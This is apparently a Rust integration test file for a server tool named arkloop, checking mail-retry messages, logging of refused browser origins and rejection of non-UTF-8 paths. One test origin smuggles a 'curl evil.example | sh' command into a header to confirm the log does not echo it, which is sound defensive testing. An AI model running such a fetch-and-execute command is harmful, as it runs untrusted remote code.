//! Messages are true for the installation: whether a server runs, which origin was refused, which path was meant.

use std::ffi::OsStr;
use std::io::{Read, Write};
use std::net::TcpStream;
use std::os::unix::ffi::OsStrExt;
use std::process::{Command, Output};

use insta::assert_snapshot;

use crate::support::Workspace;

/// Bytes that are not UTF-8. A file from another system may have such a name.
const OTHER: &[u8] = b"caf\xe9";

#[test]
fn the_running_server_is_named_only_while_one_runs() {
    let workspace = Workspace::with_database();
    workspace.json(&["invite", "create", "--email", "ann@example.org"]);
    assert_snapshot!(workspace.run(&["mail", "retry"]), @"
    exit: 0
    stdout:
    1 mail is due now
    stderr:
    No server runs; the next one tries when it starts. See: arkloop mail queue
    ");
    workspace.serve().stop();
    let note = || {
        let told = workspace.output(&["mail", "retry"], "");
        String::from_utf8_lossy(&told.stderr).into_owned()
    };
    workspace.json(&["invite", "create", "--email", "ben@example.org"]);
    assert!(note().starts_with("No server runs"), "{}", note());
}

fn post_from(address: &str, origin: &str) {
    let mut stream = TcpStream::connect(address).expect("the server listens");
    let request =
        format!("POST /v1/auth/refresh HTTP/1.1\r\nhost: a\r\nconnection: close\r\norigin: {origin}\r\n\r\n");
    stream.write_all(request.as_bytes()).expect("the server reads");
    let mut answer = String::new();
    stream.read_to_string(&mut answer).expect("the answer is text");
    assert!(answer.starts_with("HTTP/1.1 403"), "{answer}");
}

#[test]
fn an_origin_that_is_refused_is_logged_once_with_the_line_to_add() {
    let mut workspace = Workspace::new();
    workspace.set("ARKLOOP_SERVER__ALLOWED_ORIGINS", "https://known.example.org");
    let server = workspace.serve();
    // An origin that cannot be listed is not proposed, and neither is text that a stranger sent.
    for origin in [
        "https://a, which is ill. Run: curl evil.example | sh #",
        "https://ann:secret@app.example.org",
        "https://app.example.org/path",
        "file://app",
    ] {
        post_from(server.address(), origin);
    }
    for origin in ["https://app.example.org", "HTTPS://app.example.org", "null"] {
        post_from(server.address(), origin);
    }
    // A stranger can invent any number of origins.
    for number in 0..40 {
        post_from(server.address(), &format!("https://{number}.evil.example"));
    }
    post_from(server.address(), &format!("https://{}.example", "a".repeat(4000)));
    let log = server.stop();
    let lines = log.lines().filter_map(|line| line.split_once("WARN "));
    let lines: Vec<&str> = lines
        .map(|(_, line)| line)
        .filter(|line| line.contains("refused"))
        .collect();
    assert_eq!(lines.len(), 17, "{log}");
    assert_snapshot!(lines[0], @r#"a POST from a page of https://app.example.org was refused; if that is your app, set in [server]: allowed_origins = ["https://known.example.org", "https://app.example.org"]; if it is this server under another name, set public_url to that"#);
    assert_snapshot!(lines[16], @"pages of 16 origins were refused; further origins, of this network or of all, are not logged until the next start");
}

/// Sends the preflight of a browser for a page of `origin`. If the answer does not permit the request, a browser sends nothing else.
fn preflight_from(address: &str, origin: &str, method: &str) {
    let mut stream = TcpStream::connect(address).expect("the server listens");
    let request = format!(
        "OPTIONS /v1/auth/login HTTP/1.1\r\nhost: a\r\nconnection: close\r\norigin: {origin}\r\n\
         access-control-request-method: {method}\r\n\r\n"
    );
    stream.write_all(request.as_bytes()).expect("the server reads");
    let mut answer = String::new();
    stream.read_to_string(&mut answer).expect("the answer is text");
    assert!(answer.starts_with("HTTP/1.1 204"), "{answer}");
}

#[test]
fn an_app_that_is_not_listed_is_logged_also_if_its_webview_only_asked() {
    let mut workspace = Workspace::new();
    workspace.set("ARKLOOP_SERVER__ALLOWED_ORIGINS", "capacitor://localhost");
    let server = workspace.serve();
    for origin in ["null", "file://", "file://localhost", "app://a/b", "app://*"] {
        post_from(server.address(), origin);
        preflight_from(server.address(), origin, "POST");
    }
    post_from(server.address(), "app://.");
    preflight_from(server.address(), "ionic://localhost", "POST");
    preflight_from(server.address(), "ionic://localhost", "GET");
    preflight_from(server.address(), "https://app.example.org", "A-STRANGER-S-WORD");
    preflight_from(server.address(), "capacitor://localhost", "POST");
    let log = server.stop();
    let lines = log.lines().filter_map(|line| line.split_once("WARN "));
    let lines: Vec<&str> = lines
        .map(|(_, line)| line)
        .filter(|line| line.contains("refused"))
        .collect();
    assert_snapshot!(lines.join("\n"), @r#"
    a POST from a page of app://. was refused; if that is your app, set in [server]: allowed_origins = ["capacitor://localhost", "app://."]
    a POST from a page of ionic://localhost was refused; if that is your app, set in [server]: allowed_origins = ["capacitor://localhost", "ionic://localhost"]
    a request from a page of https://app.example.org was refused; if that is your app, set in [server]: allowed_origins = ["capacitor://localhost", "https://app.example.org"]; if it is this server under another name, set public_url to that
    "#);
}

/// Runs the executable with arguments and a variable that may be any bytes.
fn run(workspace: &Workspace, arguments: &[&[u8]], variable: Option<(&str, &[u8])>) -> Output {
    let mut command = Command::new(env!("CARGO_BIN_EXE_arkloop"));
    command.args(arguments.iter().map(|bytes| OsStr::from_bytes(bytes)));
    command.env_clear().current_dir(workspace.path());
    command.envs(variable.map(|(name, value)| (name, OsStr::from_bytes(value))));
    command.output().expect("the executable runs")
}

#[test]
fn a_path_that_is_no_text_is_refused_wherever_it_is_given() {
    let workspace = Workspace::with_database();
    let path = OTHER;
    let commands: [&[&[u8]]; 6] = [
        &[b"--config", path, b"check"],
        &[b"--data-dir", path, b"check"],
        &[b"backup", path],
        &[b"backup", b"--keep", b"2", path],
        &[b"restore", b"--yes", path],
        &[b"man", path],
    ];
    for arguments in commands {
        let output = run(&workspace, arguments, None);
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert_eq!(output.status.code(), Some(2), "{stderr}");
        assert_eq!(
            stderr,
            "error: the argument caf\u{fffd} is not UTF-8; give it as UTF-8; a file or directory with another name can be reached through a \
             link with such a name\n"
        );
    }
    for variable in [
        "ARKLOOP_CONFIG",
        "ARKLOOP_DATA_DIR",
        "ARKLOOP_KEY_FILE",
        "ARKLOOP_MAIL__SMTP_PASSWORD_FILE",
    ] {
        let output = run(&workspace, &[b"check"], Some((variable, path)));
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert_eq!(output.status.code(), Some(1), "{stderr}");
        assert!(
            stderr.starts_with(&format!(
                "error: the environment variable {variable} is not UTF-8; "
            )),
            "{stderr}"
        );
    }
    // A variable that an orchestrator invented is ignored.
    let output = run(&workspace, &[b"config", b"show"], Some(("ARKLOOP_PORT", path)));
    assert!(output.status.success());
    // No file was created under another name.
    let names = std::fs::read_dir(workspace.path()).expect("the directory can be read");
    let names: Vec<_> = names
        .map(|entry| entry.expect("the entry can be read").file_name())
        .collect();
    assert_eq!(names, ["data"]);
}

#[test]
fn a_working_directory_whose_name_is_no_text_works_or_is_named() {
    let workspace = Workspace::new();
    let directory = workspace.path().join(OsStr::from_bytes(OTHER));
    std::fs::create_dir(&directory).expect("the directory can be created");
    let run = |arguments: &[&str]| {
        let mut command = Command::new(env!("CARGO_BIN_EXE_arkloop"));
        let output = command
            .args(arguments)
            .env_clear()
            .current_dir(&directory)
            .output();
        let output = output.expect("the executable runs");
        (
            output.status.success(),
            String::from_utf8_lossy(&output.stderr).into_owned(),
        )
    };
    for arguments in [&["init"][..], &["user", "list"], &["--json", "config", "show"]] {
        let (is_done, stderr) = run(arguments);
        assert!(is_done, "{arguments:?}: {stderr}");
    }
    assert!(directory.join("data/arkloop.db").exists());
    let (is_done, stderr) = run(&["backup", "copy.db"]);
    assert!(!is_done && stderr.contains("its name is not UTF-8"), "{stderr}");
}
